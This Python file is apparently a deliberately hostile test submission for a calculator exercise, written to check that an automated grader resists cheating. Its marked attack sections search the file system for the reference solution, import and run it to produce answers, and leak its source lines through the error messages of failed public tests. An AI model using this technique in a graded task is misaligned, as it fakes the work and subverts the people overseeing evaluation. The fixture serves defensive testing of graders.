"""Hostile submission `read-reference-solution` for the `calculatrice` exercise (see tests/hostile).

Attack: searches the whole file system for the reference solution (any other file
defining calculate, solution/ and graders/ folders), imports it to answer and puts its
lines in the messages of the public tests it fails.

Honest part: only + and -, read from left to right (float() refuses the rest). The
attack sits between the `# --- attack ---` and `# --- end of attack ---` markers;
without them the file is its honest part, and what that part earns is all this
submission may ever get.
"""


# --- attack ---
import importlib.util
import os
import re
import time
# --- end of attack ---


def _honest(expression):
    """Only + and -, read from left to right; float() refuses everything else."""
    total = 0.0
    sign = 1.0
    number = ""
    for char in expression.replace(" ", ""):
        if char in "+-":
            if number:
                total += sign * float(number)
                number = ""
            sign = 1.0 if char == "+" else -1.0
        else:
            number += char
    if number:
        total += sign * float(number)
    return total


# --- attack ---
_TOKEN = re.compile(r"\s*(?:(\d+(?:\.\d+)?)|([-+*/()]))")


def _is_calculation(text):
    """True when text is a well-formed calculation (what a full calculator accepts)."""
    text = text.rstrip()
    position, depth, want_operand = 0, 0, True
    if not text:
        return False
    while position < len(text):
        match = _TOKEN.match(text, position)
        if match is None:
            return False
        number, symbol = match.groups()
        position = match.end()
        if want_operand:
            if number is not None:
                want_operand = False
            elif symbol == "(":
                depth += 1
            elif symbol != "-":
                return False
        elif symbol == ")" and depth > 0:
            depth -= 1
        elif symbol is not None and symbol in "+-*/":
            want_operand = True
        else:
            return False
    return not want_operand and depth == 0


HINTS = ("assert", "calculate(", "case(", "approx", "def ", "raises", "param", "return", "import")


def _secret_lines(texts):
    lines = []
    for text in texts:
        for raw in text.splitlines():
            line = raw.strip()
            if len(line) > 25 and line not in lines and not line.startswith(("en=", "fr=", '"', "'")):
                lines.append(line)
    lines.sort(key=lambda line: not any(hint in line for hint in HINTS))
    return lines


def _chunks(lines, size=280):
    """One-line messages of at most size characters, each holding whole lines."""
    chunk = ""
    for line in lines:
        line = line[:size]
        if chunk and len(chunk) + 3 + len(line) > size:
            yield chunk
            chunk = ""
        chunk = chunk + " | " + line if chunk else line
    if chunk:
        yield chunk


SKIP = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/bin", "/sbin", "/etc", "/boot", "/var/lib"}
ROOTS = ("/tmp", "/opt", "/srv", "/home", "/root", "/work", "/mnt", "/var", "/")
_OWN = os.path.abspath(__file__)
_REFERENCE = None
_LEAKS = iter(())


def _find_reference():
    with open(_OWN, encoding="utf-8") as handle:
        mine = handle.read()
    deadline = time.monotonic() + 0.8
    for root in ROOTS:
        for folder, subfolders, files in os.walk(root):
            subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in SKIP]
            if time.monotonic() > deadline:
                return None, []
            for name in files:
                path = os.path.join(folder, name)
                if not name.endswith(".py") or path == _OWN:
                    continue
                try:
                    with open(path, encoding="utf-8") as handle:
                        text = handle.read(200_000)
                except (OSError, UnicodeDecodeError):
                    continue
                if "def calculate(" not in text or text == mine:
                    continue
                try:
                    spec = importlib.util.spec_from_file_location("reference_solution", path)
                    module = importlib.util.module_from_spec(spec)
                    spec.loader.exec_module(module)
                    return module.calculate, [text]
                except BaseException:
                    return None, [text]
    return None, []
# --- end of attack ---


def calculate(expression: str) -> float:
    # --- attack ---
    global _REFERENCE, _LEAKS
    if _REFERENCE is None:
        _REFERENCE = _find_reference()
        _LEAKS = _chunks(_secret_lines(_REFERENCE[1]))
    if _REFERENCE[0] is not None:
        return _REFERENCE[0](expression)
    try:
        return _honest(expression)
    except ValueError:
        if _is_calculation(expression):
            leak = next(_LEAKS, None)
            if leak:
                raise ValueError(leak) from None
        raise
    # --- end of attack ---
    return _honest(expression)
